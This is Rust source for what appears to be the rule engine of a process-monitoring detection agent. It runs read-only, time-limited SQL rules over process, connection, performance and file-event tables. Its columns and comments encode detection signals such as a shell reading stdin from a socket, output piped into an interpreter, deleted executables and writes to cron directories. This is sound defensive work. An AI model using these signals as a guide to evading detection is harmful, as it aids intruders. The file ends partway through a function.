//! Running rules: every rule over a batch of processes, read-only, bounded.
//!
//! The engine owns an in-memory SQLite database with one table,
//! `processes`. For each batch it fills the table with the batch's rows
//! (as itself, with full rights, on its own connection) and then runs every
//! rule on one of up to [`MAX_RULE_THREADS`] connections opened read-only,
//! one thread each, under an authorizer that allows only reading: a rule
//! cannot write, `ATTACH`, run a `PRAGMA` or load an extension, and each
//! rule is interrupted after [`RULE_TIME_LIMIT`]. Rules never see the
//! agent's own store.
//!
//! # What bounds a rule
//!
//! - Every connection that sees a rule's SQL is guarded
//!   ([`readonly::guard`]) before it compiles any: the read-only
//!   authorizer with its function allow-list
//!   ([`readonly::ALLOWED_FUNCTIONS`], no `pragma_*` tables) and SQLite's
//!   limits (values of at most [`readonly::MAX_VALUE_BYTES`], ...). A rule
//!   is compiled one statement at a time under them, so nothing of a
//!   refused rule runs, not even a pragma SQLite runs while compiling.
//! - At load ([`RuleEngine::new`], [`validate`] alike), each rule also runs
//!   once over the empty table: one that fails or overruns there is
//!   refused, rather than failing every batch.
//! - Time: a [`Watchdog`] thread interrupts a rule at [`RULE_TIME_LIMIT`];
//!   the interrupt takes effect at SQLite's next step, and the limits keep
//!   each step short (tens of milliseconds at most), so a rule stops
//!   within twice its limit.
//! - Memory: SQLite's heap is capped at [`ENGINE_HEAP_LIMIT`] (process-wide,
//!   see there); a rule returns at most as many rows as the batch has
//!   processes (or [`MIN_ROW_CAP`]).
//! - A rule that fails is skipped for the batch and counted (per rule, see
//!   [`RuleEngine::rule_failures`]); the log says so once per
//!   [`FAILURE_LOG_PERIOD`] per rule, with the count.
//!
//! # The `processes` table
//!
//! Its columns are [`COLUMNS`]: names, types and meanings are those of the
//! one SQL vocabulary over processes ([`collector_core::vocabulary::PROCESS`]),
//! the same as in the store and in trigger conditions;
//! `daemoneye-cli rules columns` lists them. Times are unix nanoseconds,
//! booleans 0/1, `argv` a JSON array.
//!
//! # The `performance` table
//!
//! A rule whose SQL names the `performance` table ([`reads_performance`])
//! is a performance rule: it runs on batches of performance samples
//! ([`RuleEngine::evaluate_batch`] of a [`Batch::Performance`]), the others on batches of
//! processes. Its columns are those of the store's `performance` table
//! ([`collector_core::vocabulary::PERFORMANCE`]); beside it, `processes`
//! holds the processes the samples name (join on `process_key`). A rule
//! about the host as a whole (a fork-rate anomaly) returns `0 AS pid`.
//!
//! # The `connections` table
//!
//! A rule whose SQL names the `connections` table ([`reads_connections`])
//! is a network rule: it runs on batches of netmond's observations
//! ([`RuleEngine::evaluate_batch`] of a [`Batch::Network`]), with `processes` holding the
//! processes that hold those sockets. Its columns are those of the store's
//! `connections` table ([`collector_core::vocabulary::NETWORK`]): a row per
//! socket and holder, `fd` the lowest descriptor the holder has it on (0,
//! 1, 2: stdin, stdout, stderr), so a rule joins `processes` on
//! `process_key` (or `pid`) and asks which socket is a shell's stdin.
//!
//! # The `file_events` table
//!
//! A rule whose SQL names the `file_events` table ([`reads_file_events`]) is
//! a file rule: it runs on batches of fsmond's file events
//! ([`RuleEngine::evaluate_batch`] of a [`Batch::Files`]), with `processes` holding the processes
//! that made them. Its columns are those of the store's `file_events`
//! table and the derived ones after them (`file_name`, `dir`, `setuid`,
//! `setgid`): [`collector_core::vocabulary::FILE`]. A row is one operation
//! on one path; `path` is as the watched system sees it (under `root` when
//! fsmond watches a root other than the host's `/`), so a rule matches
//! `/etc/cron.d/%` on a host, in a container's root filesystem and in a
//! test's root alike. An event whose process is not known returns the
//! event's pid (or 0) with no `process_key`.

use std::num::NonZeroUsize;
use std::sync::atomic::{AtomicU64, AtomicUsize, Ordering};
use std::sync::{Arc, LazyLock, RwLockReadGuard, RwLockWriteGuard};
use std::time::{Duration, SystemTime};

use collector_core::metrics::{Counter, Gauge, Registry};
use collector_core::vocabulary::{process_column, FILE, NETWORK, PERFORMANCE};
use collector_core::ProcessEvent;
use daemoneye_store::files::FileEventRow;
use daemoneye_store::network::{self as net_rows, ConnectionRow};
use daemoneye_store::performance::{self as perf_rows, PerformanceRow};
use rusqlite::{params, Connection, OpenFlags};
use serde::Serialize;
use tokio::time::Instant;

use daemoneye_store::readonly::{self, Denied, Watchdog};

use crate::history::History;
use crate::rules::{Rule, RuleError};
use crate::sys::{self, Shared};

/// The longest one rule may run over one batch.
pub const RULE_TIME_LIMIT: Duration = Duration::from_millis(250);

/// The cap on SQLite's heap in a process that runs rules (`PRAGMA
/// hard_heap_limit`, set by [`RuleEngine::new`] and [`validate`]). SQLite
/// has no per-connection heap, so the cap is the process's: in the agent
/// it covers the store's connection too. The engine's own use is small
/// (about 4 KiB per process of a batch, in each of its three connections'
/// page caches; 10,000 processes take some 40 MiB), the store's a few
/// MiB: the cap leaves room for batches of 50,000 processes and stops a
/// rule that would take the rest. A statement that reaches it fails with
/// "out of memory"; a rule that failed so while another ran is run again
/// alone, so only the rule that took the memory loses its batch.
pub const ENGINE_HEAP_LIMIT: i64 = 512 << 20;

/// The fewest rows a rule may return over a batch; past the number of the
/// batch's processes (or this), the rule is stopped and failed: it returns
/// the same processes over and over (a cross join), and holding its rows
/// would cost memory without bound.
pub const MIN_ROW_CAP: usize = 1000;

/// [`readonly::MAX_VALUE_BYTES`] as a length.
const MAX_VALUE_LEN: usize = readonly::MAX_VALUE_BYTES.unsigned_abs() as usize;

/// How often a failing rule is logged: once per rule per this period, with
/// the count of failures since the last line.
pub const FAILURE_LOG_PERIOD: Duration = Duration::from_secs(60);

/// The columns of the rules' `processes` table, names and types from the
/// one SQL vocabulary ([`collector_core::vocabulary::PROCESS`]), in table
/// order: the columns rules test most come first, since SQLite walks each
/// row's record up to the columns a statement reads. [`RuleEngine`] binds a
/// row's values in this order.
pub const COLUMNS: [&str; 29] = [
    "event_type",
    "name",
    "exe_name",
    "exe_dir",
    "exe",
    "cmdline",
    "pipes_to_interpreter",
    "parent_name",
    "argv0_kernel_thread",
    "argv0_differs",
    "stdin_shell",
    "argv0_name",
    "uid",
    "euid",
    "exe_deleted",
    "exe_replaced",
    "file_exists",
    "accessible",
    "exe_dir_user_writable",
    "pid",
    "process_key",
    "ppid",
    "start_time",
    "observed_at",
    "parent_exe",
    "parent_cmdline",
    "exe_hash",
    "container_id",
    "argv",
];

// With case-sensitive LIKE, prefix patterns (`exe LIKE '/tmp/%'`), IN lists
// and equalities become index lookups instead of scans of the batch.
// The flags are rarely set: partial indexes hold only the rows that have
// them, so filling them costs almost nothing, and `flag = 1` is a lookup.
// `process_key` is what a rule over the history joins `processes` on.
// Nearly every row is a snapshot or an exec: `event_type` is indexed only
// where a rule looks it up (`event_type = 'pid_reused'`, the same term).
const INDEXES: &str = "
CREATE INDEX processes_exe ON processes (exe);
CREATE INDEX processes_name ON processes (name);
CREATE INDEX processes_exe_name ON processes (exe_name);
CREATE INDEX processes_parent_name ON processes (parent_name);
CREATE INDEX processes_pid_reused ON processes (event_type) WHERE event_type = 'pid_reused';
CREATE INDEX processes_deleted ON processes (exe_deleted) WHERE exe_deleted = 1;
CREATE INDEX processes_pipes ON processes (pipes_to_interpreter) WHERE pipes_to_interpreter = 1;
CREATE INDEX processes_dir_writable ON processes (exe_dir_user_writable) WHERE exe_dir_user_writable = 1;
CREATE INDEX processes_kernel_thread ON processes (argv0_kernel_thread) WHERE argv0_kernel_thread = 1;
CREATE INDEX processes_argv0_differs ON processes (argv0_differs) WHERE argv0_differs = 1;
CREATE INDEX processes_stdin_shell ON processes (stdin_shell) WHERE stdin_shell = 1;
CREATE INDEX processes_process_key ON processes (process_key);";

/// `CREATE TABLE processes (...)` and its indexes, from [`COLUMNS`].
static SCHEMA: LazyLock<String> = LazyLock::new(schema);
/// The insert of one row, binding [`COLUMNS`] in order.
static INSERT: LazyLock<String> = LazyLock::new(insert_sql);
/// The insert of one performance sample, as the store's.
static PERFORMANCE_INSERT: LazyLock<String> =
    LazyLock::new(|| perf_rows::insert_sql("performance"));
/// The insert of one connection row, as the store's.
static CONNECTIONS_INSERT: LazyLock<String> = LazyLock::new(|| net_rows::insert_sql("connections"));
/// The insert of one file event: the store's columns, then the derived
/// ones ([`FILE`]'s order).
static FILES_INSERT: LazyLock<String> =
    LazyLock::new(|| daemoneye_store::files::insert_every_column_sql("file_events"));

fn schema() -> String {
    let columns: Vec<String> = COLUMNS
        .iter()
        .map(|name| {
            let ty = process_column(name).map_or("ANY", |c| c.ty.sqlite());
            format!("{name} {ty}")
        })
        .collect();
    let table = crate::tables::definitions;
    format!(
        "CREATE TABLE processes ({});{INDEXES}\nCREATE TABLE performance ({});\n\
         CREATE TABLE connections ({});\nCREATE INDEX connections_pid ON connections (pid);\n\
         CREATE TABLE file_events ({});\nCREATE INDEX file_events_pid ON file_events (pid);",
        columns.join(", "),
        table(PERFORMANCE),
        table(NETWORK),
        table(FILE)
    )
}

/// Every table a rule can read, with its columns (names, types, meanings
/// from the one vocabulary), in the order `daemoneye-cli rules columns`
/// lists them: `processes` (in [`COLUMNS`]' order), the tables of the
/// other domains' batches, then the history.
pub fn tables() -> Vec<(
    &'static str,
    Vec<&'static collector_core::vocabulary::Column>,
)> {
    use collector_core::vocabulary::{ANCESTRY, EXEC_LINEAGE, LIFECYCLE};
    let processes = COLUMNS.iter().filter_map(|n| process_column(n)).collect();
    let all = |list: &'static [collector_core::vocabulary::Column]| list.iter().collect();
    vec![
        ("processes", processes),
        ("performance", all(PERFORMANCE)),
        ("connections", all(NETWORK)),
        ("file_events", all(FILE)),
        ("ancestry", all(ANCESTRY)),
        ("exec_lineage", all(EXEC_LINEAGE)),
        ("lifecycle_events", all(LIFECYCLE)),
    ]
}

/// What a batch loads beside its processes: the samples, connections or
/// file events the rules of one kind are about.
#[derive(Debug, Clone, Copy)]
#[non_exhaustive]
pub enum Batch<'a> {
    /// Performance samples, for the performance rules.
    Performance(&'a [PerformanceRow]),
    /// Connections, for the network rules.
    Network(&'a [ConnectionRow]),
    /// File events, for the file rules.
    Files(&'a [FileEventRow]),
}

impl Batch<'_> {
    /// The kind of the rules that run on it.
    fn kind(self) -> RuleKind {
        match self {
            Self::Performance(_) => RuleKind::Performance,
            Self::Network(_) => RuleKind::Network,
            Self::Files(_) => RuleKind::File,
        }
    }

    /// How many rows it has.
    fn len(self) -> usize {
        match self {
            Self::Performance(rows) => rows.len(),
            Self::Network(rows) => rows.len(),
            Self::Files(rows) => rows.len(),
        }
    }
}

/// Whether `sql` names `table` (any identifier spelled so, ASCII
/// case-insensitive).
fn names_table(sql: &str, table: &str) -> bool {
    sql.split(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
        .any(|w| w.eq_ignore_ascii_case(table))
}

/// Whether `sql` names the `performance` table (any identifier spelled
/// so, ASCII case-insensitive): such a rule runs on performance batches.
pub fn reads_performance(sql: &str) -> bool {
    names_table(sql, "performance")
}

/// Whether `sql` names the `connections` table (any identifier spelled
/// so, ASCII case-insensitive): such a rule runs on batches of
/// connections (before [`reads_performance`] is asked).
pub fn reads_connections(sql: &str) -> bool {
    names_table(sql, "connections")
}

/// Whether `sql` names the `file_events` table (any identifier spelled so,
/// ASCII case-insensitive): such a rule runs on batches of file events
/// (asked first).
pub fn reads_file_events(sql: &str) -> bool {
    names_table(sql, "file_events")
}

/// Which batches a rule runs on.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
#[non_exhaustive]
pub enum RuleKind {
    /// Batches of processes (the rule reads `processes` only).
    Process,
    /// Batches of performance samples (it names `performance`).
    Performance,
    /// Batches of connections (it names `connections`).
    Network,
    /// Batches of file events (it names `file_events`).
    File,
}

impl RuleKind {
    /// The kind of a rule whose SQL is `sql`.
    pub fn of(sql: &str) -> Self {
        if reads_file_events(sql) {
            Self::File
        } else if reads_connections(sql) {
            Self::Network
        } else if reads_performance(sql) {
            Self::Performance
        } else {
            Self::Process
        }
    }
}

fn insert_sql() -> String {
    let marks: Vec<String> = (1..=COLUMNS.len()).map(|i| format!("?{i}")).collect();
    format!(
        "INSERT INTO processes ({}) VALUES ({})",
        COLUMNS.join(", "),
        marks.join(", ")
    )
}

/// One process as the rules see it (its fields are the table's columns, so
/// the flags stay plain bools).
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
#[allow(clippy::struct_excessive_bools)]
pub struct ProcessRow {
    /// `boot_id:pid:start_ticks`.
    pub process_key: Option<String>,
    /// Process id.
    pub pid: u32,
    /// Parent id.
    pub ppid: Option<u32>,
    /// `comm`.
    pub name: String,
    /// Executable path.
    pub exe: Option<String>,
    /// Arguments.
    pub argv: Vec<String>,
    /// Real uid.
    pub uid: Option<u32>,
    /// Effective uid.
    pub euid: Option<u32>,
    /// Start, unix ns.
    pub start_time: Option<i64>,
    /// Observation time, unix ns.
    pub observed_at: Option<i64>,
    /// The executable was deleted while running.
    pub exe_deleted: bool,
    /// The file at the executable's path is not the one running.
    pub exe_replaced: bool,
    /// The executable exists on disk.
    pub file_exists: bool,
    /// Everything about the process could be read.
    pub accessible: bool,
    /// The executable's directory is writable by a non-root user.
    pub exe_dir_user_writable: Option<bool>,
    /// The parent's `comm`.
    pub parent_name: Option<String>,
    /// The parent's executable.
    pub parent_exe: Option<String>,
    /// The parent's argv, joined.
    pub parent_cmdline: Option<String>,
    /// What the event reported (`exec`, `snapshot`, ...).
    pub event_type: String,
    /// SHA-256 of the executable.
    pub exe_hash: Option<String>,
    /// Container id.
    pub container_id: Option<String>,
}

fn unix_ns(t: SystemTime) -> Option<i64> {
    i64::try_from(t.duration_since(SystemTime::UNIX_EPOCH).ok()?.as_nanos()).ok()
}

impl ProcessRow {
    /// The row for `e`, with what is known of its parent.
    pub fn from_event(
        e: &ProcessEvent,
        parent: Option<&ProcessEvent>,
        exe_dir_user_writable: Option<bool>,
    ) -> Self {
        Self {
            process_key: e.process_key.map(|k| k.to_string()),
            pid: e.pid,
            ppid: e.ppid,
            name: e.name.clone(),
            exe: e.executable_path.clone(),
            argv: e.command_line.clone(),
            uid: e.user_id,
            euid: e.euid,
            start_time: e.start_time.and_then(unix_ns),
            observed_at: unix_ns(e.timestamp),
            exe_deleted: (!e.file_exists && e.executable_path.is_some())
                || e.event_type == collector_core::ProcessEventType::ExecutableDeleted,
            exe_replaced: e.exe_replaced,
            file_exists: e.file_exists,
            accessible: e.accessible,
            exe_dir_user_writable,
            parent_name: parent.map(|p| p.name.clone()),
            parent_exe: parent.and_then(|p| p.executable_path.clone()),
            parent_cmdline: parent.map(|p| p.command_line.join(" ")),
            event_type: e.event_type.as_str().to_owned(),
            exe_hash: e.executable_hash.clone(),
            container_id: e.context().container_id.clone(),
        }
    }
}

/// A rule matched a process.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Match {
    /// The rule.
    pub rule_id: String,
    /// The process's pid (from the rule's `pid` column).
    pub pid: u32,
    /// The process's key, when the rule returned `process_key`.
    pub process_key: Option<String>,
    /// The file, when the rule returned `path` (a file rule): alerts about
    /// different files of one process are kept apart.
    pub path: Option<String>,
}

/// The engine itself failed (not a rule).
#[derive(Debug, thiserror::Error)]
#[non_exhaustive]
pub enum EngineError {
    /// SQLite failed outside any rule.
    #[error("rule engine database error")]
    Sqlite(#[from] rusqlite::Error),
    /// The engine's watchdog thread could not be started.
    #[error("cannot start the rule engine's watchdog thread")]
    Thread(#[source] std::io::Error),
}

/// Counters of the engine (the workspace's one counter type: readable at
/// any time, and in `/metrics` once [`register`](Self::register)ed).
#[derive(Debug, Default)]
pub struct EngineStats {
    /// Batches evaluated.
    pub batches: Counter,
    /// Rule runs.
    pub rule_runs: Counter,
    /// Matches found.
    pub matches: Counter,
    /// Rule runs that failed (error or time limit).
    pub rule_failures: Counter,
    /// Rule runs interrupted at the time limit.
    pub rule_timeouts: Counter,
    /// Batches whose rules were shared out among more than one connection
    /// (see [`PARALLEL_MIN_ROWS`]).
    pub shared_batches: Counter,
    /// Rules that failed in the last batch (health reads it).
    pub failing_rules: Gauge,
}

impl EngineStats {
    /// Names the counters in `registry` (`daemoneye_rule_runs_total`, ...).
    pub fn register(&self, registry: &Registry) {
        registry.register_counters(
            &[],
            &[
                (
                    "daemoneye_rule_batches_total",
                    "Batches of processes the rules judged.",
                    &self.batches,
                ),
                ("daemoneye_rule_runs_total", "Rule runs.", &self.rule_runs),
                (
                    "daemoneye_rule_matches_total",
                    "Processes rules matched.",
                    &self.matches,
                ),
                (
                    "daemoneye_rule_failures_total",
                    "Rule runs that failed (an error or the time limit); the rule was skipped.",
                    &self.rule_failures,
                ),
                (
                    "daemoneye_rule_timeouts_total",
                    "Rule runs interrupted at the time limit.",
                    &self.rule_timeouts,
                ),
                (
                    "daemoneye_rule_shared_batches_total",
                    "Batches whose rules ran on more than one connection at once.",
                    &self.shared_batches,
                ),
            ],
        );
        registry.register_gauge(
            "daemoneye_rules_failing",
            "Rules that failed in the last batch.",
            &[],
            &self.failing_rules,
        );
    }
}

fn open_schema() -> Result<Connection, rusqlite::Error> {
    let conn = Connection::open_in_memory()?;
    // Paths and command lines are case-sensitive, and so is LIKE here
    // (several times faster than the default).
    conn.pragma_update(None, "case_sensitive_like", true)?;
    conn.execute_batch(&SCHEMA)?;
    // An empty history: the tables are there, as in every engine.
    sys::register(&conn, &Shared::default())?;
    Ok(conn)
}

/// The connection rules are judged on: the schema, empty, under the
/// read-only authorizer and the limits (see [`readonly`]) from the start.
fn open_checker() -> Result<(Connection, Denied), rusqlite::Error> {
    let conn = open_schema()?;
    let denied = Denied::default();
    readonly::guard(&conn, denied.clone())?;
    Ok((conn, denied))
}

/// Compiles `rule` on `conn` (from [`open_checker`], slot 0 of
/// `watchdog`), under the read-only authorizer, and runs it once over the
/// empty table, so a rule that cannot run is refused here rather than
/// failing every batch.
fn check_sql(
    conn: &Connection,
    denied: &Denied,
    watchdog: &Watchdog,
    rule: &Rule,
) -> Result<(), RuleError> {
    let refuse = |reason: String| RuleError {
        origin: rule.origin.clone(),
        rule: rule.id.clone(),
        reason,
    };
    {
        let stmt = readonly::prepare(conn, &rule.sql, denied).map_err(refuse)?;
        if !stmt.column_names().contains(&"pid") {
            return Err(refuse("the SELECT must return a `pid` column".to_owned()));
        }
    }
    watchdog.arm(0, RULE_TIME_LIMIT);
    let ran = run_rule(conn, rule, MIN_ROW_CAP);
    watchdog.disarm(0);
    match ran {
        Ok(_) => Ok(()),
        Err(e) if e.interrupted() => Err(refuse(format!(
            "does not finish within {} ms over an empty table",
            RULE_TIME_LIMIT.as_millis()
        ))),
        Err(e) => Err(refuse(format!("fails when run: {e}"))),
    }
}

/// Checks one rule's fields and SQL, and runs it once over an empty
/// table: the verdict `daemoneye-cli rules validate` gives, the same as
/// [`RuleEngine::new`]'s. Caps the process's SQLite heap at
/// [`ENGINE_HEAP_LIMIT`].
///
/// # Errors
/// Why the rule is refused.
pub fn validate(rule: &Rule) -> Result<(), RuleError> {
    crate::rules::check_fields(rule)?;
    let unavailable = |e: &dyn std::fmt::Display| RuleError {
        origin: rule.origin.clone(),
        rule: rule.id.clone(),
        reason: format!("engine unavailable: {e}"),
    };
    readonly::cap_heap(ENGINE_HEAP_LIMIT).map_err(|e| unavailable(&e))?;
    let (conn, denied) = open_checker().map_err(|e| unavailable(&e))?;
    let watchdog = Watchdog::new(&[&conn]).map_err(|e| unavailable(&e))?;
    check_sql(&conn, &denied, &watchdog, rule)
}

/// Most connections (so threads) the rules of one batch run on. Two keeps
/// the agent's footprint small on a busy host and halves a batch's latency
/// where two cores are free.
pub const MAX_RULE_THREADS: usize = 2;

/// The fewest rows of a batch whose rules are shared out among the
/// connections. Below it, a thread started for the batch costs more than
/// it saves: a spawn storm judged in batches of about 40 processes ran each
/// batch's rules in well under a millisecond, and the helper thread's start
/// and join were most of what sharing them cost.
pub const PARALLEL_MIN_ROWS: usize = 256;

/// Names the shared in-memory database of each engine (`memdb` databases
/// are shared by name within the process).
static ENGINES: AtomicU64 = AtomicU64::new(0);

/// A read-only connection that runs rules.
struct Reader {
    conn: Connection,
}

impl Reader {
    /// Opens `path` read-only, forever under the read-only authorizer and
    /// the limits.
    fn open(path: &str, statements: usize, history: &Shared) -> Result<Self, rusqlite::Error> {
        let conn = Connection::open_with_flags_and_vfs(
            path,
            OpenFlags::SQLITE_OPEN_READ_ONLY
                | OpenFlags::SQLITE_OPEN_NO_MUTEX
                | OpenFlags::SQLITE_OPEN_URI,
            "memdb",
        )?;
        conn.pragma_update(None, "case_sensitive_like", true)?;
        // Sorts and temporary b-trees of a rule stay in memory, and the table
        // stays in this connection's page cache across the batch's rules: up
        // to 256 MiB (-KiB), allocated as used; a bigger table is re-read
        // from the shared database, slower but the same.
        conn.pragma_update(None, "temp_store", "MEMORY")?;
        conn.pragma_update(None, "cache_size", -262_144)?;
        conn.set_prepared_statement_cache_capacity(statements);
        sys::register(&conn, history)?;
        readonly::guard(&conn, Denied::default())?;
        Ok(Self { conn })
    }

    /// Runs rules `rules[i]`, taking the next `i` from `next` until none is
    /// left: each reader takes work as it frees up. Each rule is
    /// interrupted by `watchdog` (this reader is its slot `slot`) at
    /// [`RULE_TIME_LIMIT`].
    fn run(
        &self,
        slot: usize,
        watchdog: &Watchdog,
        batch: BatchRules<'_>,
        next: &AtomicUsize,
    ) -> Vec<(usize, Result<Vec<Match>, RunError>)> {
        let mut out = Vec::new();
        loop {
            let i = next.fetch_add(1, Ordering::Relaxed);
            let Some(rule) = batch.rules.get(i) else {
                break;
            };
            if batch.kinds.get(i).copied() == Some(batch.of) {
                out.push((i, self.run_one(slot, watchdog, rule, batch.cap)));
            }
        }
        out
    }

    fn run_one(
        &self,
        slot: usize,
        watchdog: &Watchdog,
        rule: &Rule,
        cap: usize,
    ) -> Result<Vec<Match>, RunError> {
        watchdog.arm(slot, RULE_TIME_LIMIT);
        let result = run_rule(&self.conn, rule, cap);
        watchdog.disarm(slot);
        result
    }
}

/// The rules of one batch: those of `rules` whose kind is `of`, at most
/// `cap` rows each.
#[derive(Clone, Copy)]
struct BatchRules<'a> {
    rules: &'a [Rule],
    kinds: &'a [RuleKind],
    of: RuleKind,
    cap: usize,
}

/// Why one run of a rule failed.
#[derive(Debug, thiserror::Error)]
enum RunError {
    /// SQLite failed (interrupted at the time limit, out of memory, ...).
    #[error(transparent)]
    Sqlite(#[from] rusqlite::Error),
    /// More rows than the cap.
    #[error("returned more than {0} rows (more than the batch has processes)")]
    TooManyRows(usize),
}

impl RunError {
    fn code(&self) -> Option<rusqlite::ErrorCode> {
        match self {
            Self::Sqlite(rusqlite::Error::SqliteFailure(e, _)) => Some(e.code),
            _ => None,
        }
    }

    /// Stopped at the time limit.
    fn interrupted(&self) -> bool {
        self.code() == Some(rusqlite::ErrorCode::OperationInterrupted)
    }

    /// Stopped at the heap cap (maybe by another statement's memory).
    fn out_of_memory(&self) -> bool {
        self.code() == Some(rusqlite::ErrorCode::OutOfMemory)
    }
}

/// A rule's failures, for a log that says each rule's count once per
/// [`FAILURE_LOG_PERIOD`] instead of a line per batch.
#[derive(Debug, Default, Clone)]
struct Failures {
    /// Since the engine started.
    total: u64,
    /// Since the last line logged.
    unlogged: u64,
    last_logged: Option<Instant>,
}

impl Failures {
    /// Counts one failure at `now`; `Some(count)` when it is time to log,
    /// with the failures the line reports (this one included).
    fn note(&mut self, now: Instant) -> Option<u64> {
        self.total += 1;
        self.unlogged += 1;
        let due = self
            .last_logged
            .is_none_or(|t| now.saturating_duration_since(t) >= FAILURE_LOG_PERIOD);
        due.then(|| {
            self.last_logged = Some(now);
            std::mem::take(&mut self.unlogged)
        })
    }
}

/// Runs rules over batches of processes.
///
/// The batch is loaded into an in-memory database shared by name within the
/// process (SQLite's `memdb`), through the engine's own connection; the rules
/// then run on up to [`MAX_RULE_THREADS`] read-only connections to it, one
/// thread each, every rule on its own and whole on one of them.
pub struct RuleEngine {
    loader: Connection,
    readers: Vec<Reader>,
    /// Slot `i` is `readers[i]`.
    watchdog: Watchdog,
    rules: Vec<Rule>,
    /// `kinds[i]`: the batches `rules[i]` runs on.
    kinds: Vec<RuleKind>,
    /// `failures[i]` are `rules[i]`'s.
    failures: Vec<Failures>,
    refused: Vec<RuleError>,
    stats: Arc<EngineStats>,
    /// What `ancestry`, `exec_lineage` and `lifecycle_events` read.
    history: Shared,
    /// The tables that may hold rows (of the last batch).
    filled: Tables,
}

impl std::fmt::Debug for RuleEngine {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("RuleEngine")
            .field("rules", &self.rules.len())
            .field("refused", &self.refused.len())
            .field("readers", &self.readers.len())
            .finish_non_exhaustive()
    }
}

impl RuleEngine {
    /// An engine with every acceptable rule of `rules` (as [`validate`]
    /// judges them); the others are refused (see
    /// [`refused`](Self::refused)), duplicates of an id too. Caps the
    /// process's SQLite heap at [`ENGINE_HEAP_LIMIT`].
    ///
    /// # Errors
    /// Only when SQLite itself (or a thread) cannot start.
    pub fn new(rules: Vec<Rule>) -> Result<Self, EngineError> {
        readonly::cap_heap(ENGINE_HEAP_LIMIT)?;
        let (conn, denied) = open_checker()?;
        let checker = Watchdog::new(&[&conn]).map_err(EngineError::Thread)?;
        let mut kept: Vec<Rule> = Vec::with_capacity(rules.len());
        let mut refused = Vec::new();
        for rule in rules {
            let verdict = crate::rules::check_fields(&rule)
                .and_then(|()| check_sql(&conn, &denied, &checker, &rule));
            match verdict {
                Err(e) => refused.push(e),
                Ok(()) if kept.iter().any(|r| r.id == rule.id) => refused.push(RuleError {
                    origin: rule.origin.clone(),
                    rule: rule.id.clone(),
                    reason: "duplicate rule id".to_owned(),
                }),
                Ok(()) => kept.push(rule),
            }
        }
        let path = format!(
            "/daemoneye-rules-{}",
            ENGINES.fetch_add(1, Ordering::Relaxed)
        );
        let loader = Connection::open_with_flags_and_vfs(
            &path,
            OpenFlags::SQLITE_OPEN_READ_WRITE
                | OpenFlags::SQLITE_OPEN_CREATE
                | OpenFlags::SQLITE_OPEN_NO_MUTEX
                | OpenFlags::SQLITE_OPEN_URI,
            "memdb",
        )?;
        // A batch's transaction stays in the cache rather than spilling.
        loader.pragma_update(None, "cache_size", -262_144)?;
        loader.execute_batch(&SCHEMA)?;
        let history = Shared::default();
        sys::register(&loader, &history)?;
        let threads = std::thread::available_parallelism()
            .map_or(1, NonZeroUsize::get)
            .clamp(1, MAX_RULE_THREADS)
            .min(kept.len());
        let mut distinct: Vec<&str> = kept.iter().map(|r| r.sql.as_str()).collect();
        distinct.sort_unstable();
        distinct.dedup();
        let readers: Vec<Reader> = (0..threads)
            .map(|_| Reader::open(&path, distinct.len().max(1), &history))
            .collect::<Result<_, _>>()?;
        let conns: Vec<&Connection> = readers.iter().map(|r| &r.conn).collect();
        let watchdog = Watchdog::new(&conns).map_err(EngineError::Thread)?;
        Ok(Self {
            loader,
            readers,
            watchdog,
            failures: vec![Failures::default(); kept.len()],
            kinds: kept.iter().map(|r| RuleKind::of(&r.sql)).collect(),
            rules: kept,
            refused,
            stats: Arc::default(),
            history,
            filled: Tables::ALL,
        })
    }

    /// The rules in force.
    pub fn rules(&self) -> &[Rule] {
        &self.rules
    }

    /// The rules refused at load, with their reasons.
    pub fn refused(&self) -> &[RuleError] {
        &self.refused
    }

    /// Each rule in force with its failed runs since the engine started.
    pub fn rule_failures(&self) -> impl Iterator<Item = (&str, u64)> {
        self.rules
            .iter()
            .zip(&self.failures)
            .map(|(r, f)| (r.id.as_str(), f.total))
    }

    /// The engine's counters, shared: they keep counting.
    pub fn stats(&self) -> Arc<EngineStats> {
        Arc::clone(&self.stats)
    }

    /// Runs every rule over `rows`. A rule that fails, overruns its time
    /// limit, reaches the heap cap or returns more rows than the batch has
    /// processes is counted and skipped; the others still run (a rule that
    /// ran out of memory while another ran is run again, alone). Matches
    /// come in the order of the rules. A failing rule is logged once per
    /// [`FAILURE_LOG_PERIOD`], with its count.
    ///
    /// # Errors
    /// Only when the batch cannot be loaded into the engine's database.
    pub fn evaluate(&mut self, rows: &[ProcessRow]) -> Result<Vec<Match>, EngineError> {
        self.load(rows, None)?;
        Ok(self.run(RuleKind::Process, rows.len()))
    }

    /// Runs the rules of `batch`'s kind over it, with `processes` (the
    /// processes it names: those the samples are of, that hold the
    /// connections, that made the file events) in the `processes` table; as
    /// [`evaluate`](Self::evaluate) otherwise.
    ///
    /// # Errors
    /// Only when the batch cannot be loaded into the engine's database.
    pub fn evaluate_batch(
        &mut self,
        batch: Batch<'_>,
        processes: &[ProcessRow],
    ) -> Result<Vec<Match>, EngineError> {
        self.load(processes, Some(batch))?;
        Ok(self.run(batch.kind(), batch.len().max(processes.len())))
    }

    /// Whether any rule in force reads `performance`.
    pub fn has_performance_rules(&self) -> bool {
        self.kinds.contains(&RuleKind::Performance)
    }

    /// Whether any rule in force reads `connections`.
    pub fn has_network_rules(&self) -> bool {
        self.kinds.contains(&RuleKind::Network)
    }

    /// Whether any rule in force reads `file_events`.
    pub fn has_file_rules(&self) -> bool {
        self.kinds.contains(&RuleKind::File)
    }

    /// Follows a batch of process events into the history rules read
    /// (`ancestry`, `exec_lineage`, `lifecycle_events`: see
    /// [`History::observe_batch`]). The tables are the history itself
    /// (virtual tables over it), so nothing is written to SQL.
    pub fn observe(&mut self, events: &[ProcessEvent]) {
        collector_core::write(&self.history).observe_batch(events);
    }

    /// The history rules read.
    pub fn history(&self) -> RwLockReadGuard<'_, History> {
        collector_core::read(&self.history)
    }

    /// The history rules read, to change (tests; a host with other bounds
    /// sets a [`History::with_capacity`] here before the first batch).
    pub fn history_mut(&mut self) -> RwLockWriteGuard<'_, History> {
        collector_core::write(&self.history)
    }

    fn run(&mut self, of: RuleKind, rows: usize) -> Vec<Match> {
        self.stats.batches.inc();
        let counter = AtomicUsize::new(0);
        let batch = BatchRules {
            rules: &self.rules,
            kinds: &self.kinds,
            of,
            cap: rows.max(MIN_ROW_CAP),
        };
